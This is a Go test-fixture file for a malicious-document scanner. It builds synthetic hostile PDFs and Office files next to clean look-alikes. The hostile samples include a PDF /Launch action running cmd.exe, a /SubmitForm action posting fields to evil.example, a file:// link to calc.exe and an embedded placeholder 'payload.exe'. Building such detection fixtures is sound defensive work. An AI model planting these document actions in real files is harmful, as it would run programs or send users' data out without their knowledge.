@@ -1,0 +1,93 @@
+package hostile
+
+// Classes from real-world files (issue 9): what oletools and pdfid catch
+// beyond the first hostile set, and clean look-alikes that must not raise
+// an alarm. Numbered 0930 on.
+
+// realWorld lists the classes of this file; All appends them.
+func realWorld() []Case {
+	return []Case{
+		{"clean-pdf-destination", PDFDestination, "PDF with /OpenAction [3 0 R /XYZ null null 0] (a destination, as LibreOffice writes) and web links: no action"},
+		{"pdf-launch-openaction", PDFLaunchOpenAction, "PDF whose /OpenAction is a /Launch action (cmd.exe)"},
+		{"pdf-submitform", PDFSubmitForm, "PDF link annotation with a /SubmitForm action to a web address"},
+		{"pdf-file-uri", PDFFileURI, "PDF link to file:// (a /URI action that is not a web address)"},
+		{"pdf-attachment", PDFAttachment, "PDF with an EmbeddedFiles name tree holding payload.exe"},
+		{"clean-doc-objectpool", DocEmptyObjectPool, "Word 97 .doc with an empty ObjectPool storage: no embedded object"},
+		{"docm-no-vba", DocmWithoutVBA, "Macro-enabled .docm content type with no VBA project"},
+	}
+}
+
+// PDFDestination is a clean PDF the way LibreOffice writes one: the
+// catalog's /OpenAction is a destination array, the page has link
+// annotations with /URI actions to web and mail addresses.
+func PDFDestination() (string, []byte) {
+	return name(30, ".pdf"), PDF(
+		"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] /Lang (en-GB) >>",
+		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> /Annots [5 0 R 6 0 R] >>",
+		pdfContent,
+		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /Type /Action /S /URI /URI (https://www.itu.int/) >> >>",
+		"<< /Type /Annot /Subtype /Link /Rect [0 20 10 30] /A << /Type /Action /S /URI /URI (mailto:tsbfginnovation@itu.int) >> >>",
+	)
+}
+
+// PDFLaunchOpenAction launches a program when the PDF opens.
+func PDFLaunchOpenAction() (string, []byte) {
+	return name(31, ".pdf"), PDF(
+		"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
+		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+		pdfPage, pdfContent,
+		"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
+	)
+}
+
+// PDFSubmitForm sends the form's fields to a server when a link is used.
+func PDFSubmitForm() (string, []byte) {
+	return name(32, ".pdf"), PDF(
+		"<< /Type /Catalog /Pages 2 0 R >>",
+		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> /Annots [5 0 R] >>",
+		pdfContent,
+		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >> >>",
+	)
+}
+
+// PDFFileURI links to a local file.
+func PDFFileURI() (string, []byte) {
+	return name(33, ".pdf"), PDF(
+		"<< /Type /Catalog /Pages 2 0 R >>",
+		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> /Annots [5 0 R] >>",
+		pdfContent,
+		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> >>",
+	)
+}
+
+// PDFAttachment carries a file in the EmbeddedFiles name tree.
+func PDFAttachment() (string, []byte) {
+	return name(34, ".pdf"), PDF(
+		"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(payload.exe) 5 0 R] >> >> >>",
+		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+		pdfPage, pdfContent,
+		"<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 6 0 R >> >>",
+		StreamObj("/Type /EmbeddedFile", []byte("MZ not really a program")),
+	)
+}
+
+// DocEmptyObjectPool is a Word 97 .doc as Word saves one: with an
+// ObjectPool storage that holds no object.
+func DocEmptyObjectPool() (string, []byte) {
+	return name(35, ".doc"), CFB(
+		Stream("WordDocument", WordDocumentStream(false)),
+		Stream("1Table", make([]byte, 512)),
+		Storage("ObjectPool"),
+		Stream("\x05SummaryInformation", SummaryInformation("Legacy contribution", "A. Author")),
+	)
+}
+
+// DocmWithoutVBA has the macro-enabled main content type but no VBA.
+func DocmWithoutVBA() (string, []byte) {
+	d := doc(36)
+	d.MacroEnabled = true
+	return name(36, ".docm"), d.Bytes()
+}
